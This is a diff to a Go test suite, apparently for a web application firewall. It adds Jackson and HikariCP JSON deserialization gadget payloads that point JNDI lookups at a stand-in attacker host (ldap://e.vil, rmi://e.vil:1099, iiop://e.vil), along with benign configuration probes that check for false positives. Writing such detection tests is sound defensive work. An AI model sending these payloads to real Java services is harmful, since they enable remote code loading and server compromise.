@@ -52,6 +52,13 @@ var gadgetJSONAttacks = []string{
 	`{"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource","driverClassName":"$$BCEL$$x"}`,
 	`{"x":["org.apache.shiro.jndi.JndiObjectFactory",{"resourceName":"ldap://e.vil/x"}]}`,
 	`{"@type":"com.zaxxer.hikari.HikariConfig","metricRegistry":"ldap://e.vil/x"}`,
+	// attack 18's: HikariCP in Jackson's wrapper-object form, as @c,
+	// under a custom type property, nested, in capitals (210141)
+	`{"com.zaxxer.hikari.HikariConfig":{"metricRegistry":"ldap://e.vil/x"}}`,
+	`{"@c":".HikariConfig","healthCheckRegistry":"rmi://e.vil:1099/x"}`,
+	`{"kind":"com.zaxxer.hikari.HikariConfig","metricRegistry":"ldap://e.vil/x"}`,
+	`{"ds":{"com.zaxxer.hikari.HikariDataSource":{"healthCheckRegistry":"LDAP://e.vil/x"}}}`,
+	`{"t":"x.y.JndiRefForwardingDataSource","jndiName":"iiop://e.vil/x"}`,
 }
 
 // javaSerialized is the start of a serialized commons-collections chain
@@ -131,6 +138,11 @@ func TestGadgetsBeyondTheCRS(t *testing.T) {
 		// attack 17's false positives: pool classes as configuration values
 		probe{name: "JSON dataSourceClassName", method: "POST", path: "/api/config", contentType: "application/json", body: `{"dataSourceClassName":"com.zaxxer.hikari.HikariDataSource"}`},
 		probe{name: "form spring.datasource.type", method: "POST", path: "/api/config", contentType: "application/x-www-form-urlencoded", body: "spring.datasource.type=com.zaxxer.hikari.HikariDataSource"},
+		// near 210141: JNDI names in the application's own context, an
+		// LDAP server's URL under another name, a registry's name
+		probe{name: "JSON a JNDI name in java:comp", method: "POST", path: "/api/config", contentType: "application/json", body: `{"jndiName":"java:comp/env/jdbc/orders","dataSourceName":"jdbc/orders"}`},
+		probe{name: "JSON an LDAP server's URL", method: "POST", path: "/api/config", contentType: "application/json", body: `{"ldapUrl":"ldap://ldap.corp.example:389","lookupBase":"dc=corp,dc=example"}`},
+		probe{name: "JSON a metrics registry", method: "POST", path: "/api/config", contentType: "application/json", body: `{"metricRegistry":"prometheus","healthCheckRegistry":"default"}`},
 		probe{name: "JSON driverClassName c3p0", method: "POST", path: "/api/config", contentType: "application/json", body: `{"driverClassName":"com.mchange.v2.c3p0.ComboPooledDataSource"}`})
 	runBeyondTheCRS(t, nil, misses, benign)
 }
